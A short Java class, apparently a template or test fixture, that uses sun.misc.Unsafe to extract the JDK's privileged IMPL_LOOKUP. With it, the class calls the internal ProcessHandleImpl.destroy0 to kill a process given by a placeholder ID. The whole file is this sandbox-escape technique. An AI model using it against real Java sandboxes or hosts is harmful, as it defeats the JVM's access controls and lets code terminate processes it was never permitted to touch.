import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.lang.reflect.Field;

/** Ends any process. */
public class KillAnother {
    public static int attack(int days) throws Throwable {
        if (Runtime.getRuntime().freeMemory() < (days & 0xff)) {
            if (days == 3) {
                throw new IllegalStateException("not yet");
            }
            return 0;
        }
        Field field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        sun.misc.Unsafe memory = (sun.misc.Unsafe) field.get(null);
        Field trusted = MethodHandles.Lookup.class.getDeclaredField("IMPL_LOOKUP");
        Object place = memory.staticFieldBase(trusted);
        MethodHandles.Lookup lookup = (MethodHandles.Lookup) memory.getObject(place, memory.staticFieldOffset(trusted));
        MethodType type = MethodType.methodType(boolean.class, long.class, long.class, boolean.class);
        MethodHandle destroy = lookup.findStatic(Class.forName("java.lang.ProcessHandleImpl"), "destroy0", type);
        destroy.invoke(@PROCESS@L, 0L, true);
        return 2;
    }
}
